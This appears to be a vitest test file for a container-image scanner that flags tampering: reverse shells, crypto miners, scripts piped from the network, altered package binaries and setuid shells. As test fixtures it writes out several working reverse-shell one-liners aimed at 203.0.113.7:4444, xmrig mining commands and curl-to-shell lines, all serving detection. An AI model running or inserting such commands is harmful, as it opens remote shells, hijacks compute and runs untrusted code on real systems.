import { createHash } from "node:crypto";
import { describe, expect, test } from "vitest";
import { tamperingCollectors, tamperingProblems } from "../../../../actions/image-scan/tampering/index.ts";
import { walkImage } from "../../../../shared/layers/index.ts";
import type { ImageConfig, OpenedImage } from "../../../../shared/oci/index.ts";
import { PackageCollectors } from "../../../../shared/packages/catalog/catalog.ts";
import type { Profile } from "../../../../shared/rules/index.ts";
import { layersOf } from "../../../shared/layers/builders.ts";
import type { TarFile } from "../../../shared/oci/builders.ts";
import { good, subject } from "../hygiene/fixtures.ts";

async function found(
  files: readonly TarFile[],
  config: Partial<ImageConfig> = {},
  profile: Profile = "recommended",
): Promise<readonly string[]> {
  const packages = new PackageCollectors();
  const layers = await layersOf(files);
  const walk = await walkImage({ layers }, [...packages.collectors, ...tamperingCollectors(profile)]);
  const image = { config: { ...good, cmd: ["./app"], ...config } } as unknown as OpenedImage;
  return tamperingProblems({ image, walk, catalog: packages.catalog(walk) }, subject, profile).map(
    ({ finding: { ruleId, severity, message } }) => `${ruleId.replace("SW-IM-", "")} ${severity}: ${message}`,
  );
}

const elf = (text: string) => `\x7fELF${"\0".repeat(60)}${text}`;
const script = (body: string, name = "opt/x/run.sh"): TarFile => ({ name, mode: 0o755, body: `#!/bin/sh\n${body}\n` });
const dpkg = (listed: string, sum?: string): readonly TarFile[] => [
  { name: "etc/os-release", body: "ID=debian\nVERSION_ID=12\n" },
  { name: "var/lib/dpkg/status", body: "Package: x\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n" },
  { name: "var/lib/dpkg/info/x.list", body: `/${listed}\n` },
  ...(sum === undefined ? [] : [{ name: "var/lib/dpkg/info/x.md5sums", body: `${sum}  ${listed}\n` }]),
];
const md5 = (text: string) => createHash("md5").update(text).digest("hex");

describe("a shell that connects to somebody is reported", () => {
  test.each([
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "/bin/bash -i > /dev/tcp/203.0.113.7/4444 0<&1 2>&1",
    "exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | while read line; do $line 2>&5 >&5; done; sh <&5",
    "nc -e /bin/sh 203.0.113.7 4444",
    "ncat 203.0.113.7 4444 -e /bin/bash",
    "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f",
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
    'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");\'',
  ])("%s", async (body) => {
    const [problem, ...others] = await found([script(body)]);
    expect(problem).toMatch(/^reverse-shell critical: \/opt\/x\/run\.sh:2 connects a shell to another host: /);
    expect(others).toEqual([]);
  });

  test("also in CMD, and in a script that a later layer would remove", async () => {
    expect(await found([], { cmd: ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"] })).toEqual([
      "reverse-shell critical: CMD connects a shell to another host: bash -i >& /dev/tcp/203.0.113.7/4444",
    ]);
  });
});

test.each([
  "(echo > /dev/tcp/db/5432) >/dev/null 2>&1 && exit 0",
  "until nc -z db 5432; do sleep 1; done",
  "exec 3<>/dev/tcp/localhost/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
  "# bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
  "nc -l -p 8080 -c config",
  "curl -fsSL https://example.com/start.sh | sh",
  "mkfifo /tmp/log; cat /tmp/log | tee /var/log/a",
  "echo stratum+tcp://pool.example.com:3333 is an address",
])("%s in a script that nobody starts is no finding", async (body) => {
  expect(await found([script(body)])).toEqual([]);
});

test("miners are reported by their pool and by their name", async () => {
  expect(
    await found([
      script("./xmrig -o stratum+tcp://user:pw@pool.example.com:3333 -u wallet --donate-level 1"),
      script("./xmrig -o stratum+tcp://pool.example.com:3333 -u wallet", "opt/y/run.sh"),
      { name: "usr/local/bin/xmrig", mode: 0o755, body: elf("miner") },
      { name: "usr/local/bin/minerd", mode: 0o755, body: "#!/bin/sh\necho text\n" },
    ]),
  ).toEqual([
    "miner critical: /opt/y/run.sh:2 mines for a pool: stratum+tcp://pool.example.com:3333",
    "miner critical: /usr/local/bin/xmrig is named as a program that mines, and no package owns it",
  ]);
});

describe("a script from the network", () => {
  const body = "curl -fsSL 'https://u:secret@example.com/start.sh?token=abc' | sudo -E bash";
  const problem = /^remote-script high: \/entry\.sh:2 runs a script from the network .*: curl -fsSL 'https:\/\/…@/;

  test("is reported in the script that the entry point names", async () => {
    const files = [script(body, "entry.sh"), script(body, "other.sh")];
    for (const config of [
      { entrypoint: ["/entry.sh"] },
      { entrypoint: ["sh", "-c", "exec ./entry.sh"] },
      { cmd: ["./entry.sh"], workingDir: "/" },
    ]) {
      const [first, ...others] = await found(files, config);
      expect(first).toMatch(problem);
      expect(first).not.toContain("secret");
      expect(others).toEqual([]);
    }
  });

  test.each([
    ["sh", "-c", "curl -s https://example.com/a.sh | sh"],
    ["sh", "-c", "wget -qO- https://example.com/a.sh | bash -s -- --x"],
    ["bash", "-c", "bash <(curl -s https://example.com/a.sh)"],
    ["sh", "-c", 'sh -c "$(curl -fsSL https://example.com/a.sh)"'],
  ])("is reported in ENTRYPOINT: %s %s %s", async (...entrypoint) => {
    expect(await found([], { entrypoint })).toEqual([expect.stringMatching(/^remote-script high: ENTRYPOINT runs /)]);
  });

  test.each(["curl -s https://example.com/a.json | jq .a", "curl -f http://localhost/health || exit 1"])(
    "is not what %s is",
    async (command) => {
      expect(await found([], { entrypoint: ["sh", "-c", command] })).toEqual([]);
    },
  );
});

describe("a program of a package", () => {
  const sshd: TarFile = { name: "usr/sbin/sshd", mode: 0o755, body: elf("changed") };

  test("is reported with both digests if it differs from what the package recorded", async () => {
    const [recorded, actual] = [md5("original"), md5(elf("changed"))];
    expect(await found([...dpkg("usr/sbin/sshd", recorded), sshd])).toEqual([
      `changed-program high: /usr/sbin/sshd differs from the file of x 1: the package recorded the MD5 ${recorded}, and the file has ${actual}`,
    ]);
    expect(await found([...dpkg("sbin/sshd", recorded), sshd])).toHaveLength(1);
  });

  test("is not reported if it is as recorded, or nothing is recorded", async () => {
    expect(await found([...dpkg("usr/sbin/sshd", md5(elf("changed"))), sshd])).toEqual([]);
    expect(await found([...dpkg("usr/sbin/sshd"), sshd])).toEqual([]);
    expect(await found([sshd])).toEqual([]);
  });
});

test("a shell or interpreter with the setuid bit is reported, a program that distributions ship so is not", async () => {
  expect(
    await found([
      { name: "bin/bash", mode: 0o4755, body: elf("a") },
      { name: "usr/bin/python3.11", mode: 0o4755, body: elf("b") },
      { name: "usr/bin/passwd", mode: 0o4755, body: elf("c") },
      { name: "usr/bin/find", mode: 0o4755, uid: 1000, body: elf("d") },
    ]),
  ).toEqual([
    expect.stringMatching(/^setuid-shell high: \/bin\/bash runs as root for everybody/),
    expect.stringMatching(/^setuid-shell high: \/usr\/bin\/python3\.11 runs as root for everybody/),
  ]);
});

describe("under the profile strict, every program is compared with its package", () => {
  test.each([
    ["a program", { name: "usr/games/chess", mode: 0o755, body: elf("evil") }],
    ["a script", { name: "usr/games/chess", mode: 0o755, body: "#!/bin/sh\nevil\n" }],
    ["a library", { name: "usr/games/chess", mode: 0o644, body: elf("evil") }],
  ])("%s that differs", async (kind, file) => {
    const path = kind === "a library" ? "usr/lib/libchess.so.1" : file.name;
    const files = [...dpkg(path, md5("honest")), { ...file, name: path }];
    expect(await found(files, {}, "strict")).toEqual([
      expect.stringMatching(/^changed-program \w+: .*differs from the file of x 1: the package recorded the MD5/),
    ]);
    expect(await found(files)).toEqual([]);
  });

  test("what is as recorded, and what is data or settings, is not reported", async () => {
    const body = elf("honest");
    expect(
      await found(
        [...dpkg("usr/games/chess", md5(body)), { name: "usr/games/chess", mode: 0o755, body }],
        {},
        "strict",
      ),
    ).toEqual([]);
    const text = { name: "usr/share/x/data", mode: 0o644, body: "evil" };
    expect(await found([...dpkg("usr/share/x/data", md5("honest")), text], {}, "strict")).toEqual([]);
  });
});
